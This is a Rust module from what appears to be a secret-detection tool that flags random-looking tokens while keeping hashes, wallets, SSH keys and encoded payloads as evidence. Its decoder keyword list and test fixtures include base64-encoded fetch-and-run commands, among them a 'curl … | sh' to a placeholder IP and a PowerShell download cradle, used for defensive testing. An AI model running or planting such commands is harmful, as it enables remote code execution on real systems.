//! Long strings that no person would write: keys and tokens, told from hashes, wallets and payloads, which are evidence.

use super::Spans;
use super::mark::Reason;
use super::packed::Packed;
use super::{assign, shape, url};

/// Shorter base64 cannot be told from a word.
const MIN: usize = 32;
/// Lengths in hex of MD5, SHA-1, SHA-224, SHA-256, SHA-384 and SHA-512.
const HASHES: [usize; 6] = [32, 40, 56, 64, 96, 128];
/// How far from a string its decoder stands.
const NEAR: usize = 2048;
/// Text with one of these decodes something, which is a payload.
static DECODES: Packed = Packed::new("atob( base64 b64 certutil -enc unhexlify");

/// Adds the spans of `text` that look random.
pub(super) fn spans(text: &[u8], spans: &mut Spans) {
    if text.len() < MIN {
        return;
    }
    let mut at = 0;
    while let Some(start) =
        text.get(at..).and_then(|rest| rest.iter().position(|b| token(*b))).map(|n| at + n)
    {
        let tail = text.get(start..).unwrap_or_default();
        let length = tail.iter().position(|b| !token(*b)).unwrap_or(tail.len());
        at = start + length;
        if length < MIN {
            // Nor can a part of it be random.
            continue;
        }
        // Padding, which stands nowhere else.
        let length = length + tail.iter().skip(length).take_while(|b| **b == b'=').count();
        at = start + length;
        let run = tail.get(..length).unwrap_or_default();
        let slashes = run.iter().take_while(|b| **b == b'/').count();
        let (start, run) = (start + slashes, run.get(slashes..).unwrap_or_default());
        // The path of an address is no string by itself.
        if random(run) && !(run.contains(&b'/') && in_address(text.get(..start).unwrap_or_default())) {
            if !evidence(text, start, run) {
                spans.push(start..at, Reason::Random);
            }
        } else {
            // A path is one run; its parts may be random by themselves.
            parts(run, start, text, spans);
        }
    }
}

/// Whether an address goes on after this text.
fn in_address(before: &[u8]) -> bool {
    let from =
        before.iter().rposition(|b| b.is_ascii_whitespace() || b"\0\"'".contains(b)).map_or(0, |at| at + 1);
    shape::find(before.get(from..).unwrap_or_default(), b"://").is_some()
}

#[inline(never)]
fn parts(run: &[u8], offset: usize, text: &[u8], spans: &mut Spans) {
    let mut start = offset;
    for part in run.split(|byte| matches!(byte, b'/' | b'-' | b'_')) {
        if random(part) && !evidence(text, start, part) {
            spans.push(start..start + part.len(), Reason::Random);
        }
        start += part.len() + 1;
    }
}

/// Whether a random string is a hash, a wallet, a public key or a payload.
#[inline(never)]
fn evidence(text: &[u8], start: usize, run: &[u8]) -> bool {
    let before = text.get(..start).unwrap_or_default();
    // `sha256:`, and `sha256-` of sub-resource integrity.
    let hash = before.len().checked_sub(7).and_then(|at| before.get(at..)).is_some_and(|tail| {
        tail.get(..3).is_some_and(|sha| sha.eq_ignore_ascii_case(b"sha")) && tail.ends_with(b":")
            || tail.ends_with(b"-")
    });
    // Public keys of SSH begin with the length of their kind, RFC 4253.
    hash || run.starts_with(b"AAAA")
        || [&b"sha256-"[..], b"sha384-", b"sha512-"].iter().any(|kind| run.starts_with(kind))
        || wallet(run)
        || shape::public_block(before)
        || payload(run)
        || DECODES.within(
            text.get(start.saturating_sub(NEAR)..text.len().min(start + run.len() + NEAR))
                .unwrap_or_default(),
        )
}

/// An address of a crypto currency in base58, by its length: Bitcoin and its kin, Solana, Monero.
#[inline(never)]
fn wallet(run: &[u8]) -> bool {
    let base58 = |b: &u8| b.is_ascii_alphanumeric() && !matches!(b, b'0' | b'O' | b'I' | b'l');
    matches!(run.len(), 26..=36 | 43..=44 | 95 | 106) && run.iter().all(base58)
}

/// Whether it is base64 of readable text or of a program, and of no secret.
#[inline(never)]
fn payload(run: &[u8]) -> bool {
    let Some(bytes) = decode(run) else { return false };
    /// gzip, zlib (3), ELF, PE, zip, bzip2, xz.
    const MAGIC: [&[u8]; 9] = [
        b"\x1f\x8b",
        b"\x78\x01",
        b"\x78\x9c",
        b"\x78\xda",
        b"\x7fELF",
        b"MZ",
        b"PK\x03\x04",
        b"BZh",
        b"\xfd7zXZ",
    ];
    if MAGIC.iter().any(|magic| bytes.starts_with(magic)) {
        return true;
    }
    let printable = |byte: &u8| matches!(byte, b'\t' | b'\n' | b'\r' | b' '..=b'~');
    // PowerShell's text is UTF-16, least significant byte first.
    let wide = bytes.as_chunks::<2>().0;
    let text: Vec<u8> = if wide.iter().all(|[_, high]| *high == 0) {
        wide.iter().map(|[low, _]| *low).collect()
    } else {
        bytes
    };
    let readable = text.iter().filter(|byte| printable(byte)).count();
    if readable * 20 < text.len() * 19 {
        return false;
    }
    let mut inner = Spans::default();
    url::spans(&text, &mut inner);
    shape::tokens(&text, &mut inner);
    shape::keys(&text, &mut inner);
    assign::spans(&text, 0, assign::Place::Text, &mut inner);
    inner.is_empty()
}

/// Base64 of either alphabet, RFC 4648, with padding or without. Text that was cut may end in the middle of a group.
#[inline(never)]
fn decode(run: &[u8]) -> Option<Vec<u8>> {
    let mut bytes = Vec::new();
    let (mut group, mut bits) = (0u32, 0);
    for byte in run.iter().filter(|byte| **byte != b'=') {
        let digit = match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        group = group << 6 | u32::from(digit);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            bytes.extend((group >> bits).to_le_bytes().first());
        }
    }
    Some(bytes)
}

/// Lower-case or upper-case hex and nothing else.
#[inline(never)]
pub(super) fn is_hex(text: &[u8]) -> bool {
    let lower = text.iter().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(b));
    let upper = text.iter().all(|b| b.is_ascii_digit() || (b'A'..=b'F').contains(b));
    (lower || upper) && !text.is_empty()
}

/// Hex that is a secret where its name says that it may be one.
#[inline(never)]
pub(super) fn secret_hex(text: &[u8]) -> bool {
    text.len() >= 24 && is_hex(text) && distinct(text) >= 8
}

/// A token of letters of both cases and digits, or of base32.
#[inline(never)]
pub(super) fn mixed(text: &[u8], least: usize) -> bool {
    if text.len() < least
        || text.len() > NEAR
        || !text.iter().all(|b| token(*b) && *b != b'/' || matches!(b, b'=' | b'%' | b'.'))
    {
        return false;
    }
    let has = |test: fn(&u8) -> bool| text.iter().any(test);
    let (upper, lower, digit) = (
        has(u8::is_ascii_uppercase),
        has(u8::is_ascii_lowercase),
        text.iter().filter(|b| b.is_ascii_digit()).count(),
    );
    let base32 = |b: &u8| b.is_ascii_alphabetic() || (b'2'..=b'7').contains(b);
    upper && lower && digit > 0
        || upper != lower && digit > 1 && distinct(text) >= 10 && text.iter().all(base32)
}

/// Whether no person would have written it: base64 of 32 characters and more, or hex that is as long as no hash.
#[inline(never)]
pub(super) fn random(run: &[u8]) -> bool {
    if run.len() < MIN {
        return false;
    }
    if is_hex(run.strip_prefix(b"0x").unwrap_or(run)) {
        return !run.starts_with(b"0x") && !HASHES.contains(&run.len()) && distinct(run) >= 8;
    }
    let (mut upper, mut lower, mut digits, mut separators) = (0, 0, 0, 0);
    for byte in run {
        match byte {
            b'A'..=b'Z' => upper += 1,
            b'a'..=b'z' => lower += 1,
            b'0'..=b'9' => digits += 1,
            b'/' | b'-' | b'_' => separators += 1,
            _ => {}
        }
    }
    // 40 random digits of base64 hold some 30 different ones; 40 letters of names and paths hold about 18.
    let enough = if run.len() < 40 { 20 } else { 24 };
    upper >= 4 && lower >= 4 && digits >= 2 && distinct(run) >= enough && separators <= run.len() / 12
}

#[inline(never)]
fn distinct(run: &[u8]) -> u32 {
    run.iter().fold(0u128, |set, byte| set | 1 << (byte & 127)).count_ones()
}

fn token(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'_' | b'-')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<&str> {
        let mut list = Spans::default();
        spans(text.as_bytes(), &mut list);
        list.ranges().map(|span| &text[span]).collect()
    }

    const HEX: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    const BASE64: &str = "wJalrXUtnFEMI07MDENGbPxRfiCYEXAMPLEKEY12";

    #[test]
    fn random_strings_are_found() {
        assert_eq!(found(&HEX[..48]), [&HEX[..48]]);
        assert_eq!(found(&format!("a={BASE64}, b")), [BASE64]);
        assert_eq!(found(&format!("x:{BASE64}/+aa")), [format!("{BASE64}/+aa")]);
    }

    #[test]
    fn names_paths_and_ids_are_not() {
        for text in [
            "/usr/lib/x86_64-linux-gnu/gstreamer1_0/PluginsForEverybody",
            "org/springframework/boot/autoconfigure/SpringBootApplication2",
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "123e4567-e89b-12d3-a456-426614174000",
            "--enable-features=NetworkService,NetworkServiceInProcess2",
            &format!("repo@sha256:{HEX}"),
            &format!("/docker/{HEX}"),
            &format!("-namespace moby -id {HEX} -address /run/x"),
            HEX,
            &HEX[..32],
            &HEX[..40],
            "cuda>=12.0 brand=tesla,driver>=450",
        ] {
            assert!(found(text).is_empty(), "{text}: {:?}", found(text));
        }
    }

    #[test]
    fn payloads_wallets_and_public_keys_are_evidence() {
        for text in [
            "IyEvYmluL3NoCmN1cmwgaHR0cDovLzIwMy4wLjExMy42L3ggfCBzaAo=",
            "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "exec(zlib.decompress(b64decode('eJwrSS0u0S0oyswrUSguKYpPzs9LzSvRUcgsAYroKJQk5pQq6CgUl+YpAAAp1Q2J')))",
            "H4sIAAAAAAAAA0tMSk5JTUvPyMzKzsnNyy8oLCouKS0rr6isqq6prauvqKxqaGpuaW1r7+gEAA9aX5AyAAAA",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDKzFbn3bAvRvSk2oSzjxNq0GQ7XxYzWm8cVtP1hJqLd me@h",
            "1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
            "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed",
            "sha384-oqVuAfXRKap7fdgcCY5uykM6RAqi0jCZ7Zr2qvH2Xk9ZBqvgnGx4lYkPQpSxR1aB",
        ] {
            assert!(found(text).is_empty(), "{text}: {:?}", found(text));
        }
        // `export DB_PASSWORD=Sommer2024; ./run.sh`
        let secret = "ZXhwb3J0IERCX1BBU1NXT1JEPVNvbW1lcjIwMjQ7IC4vcnVuLnNo";
        assert_eq!(found(secret), [secret]);
    }
}
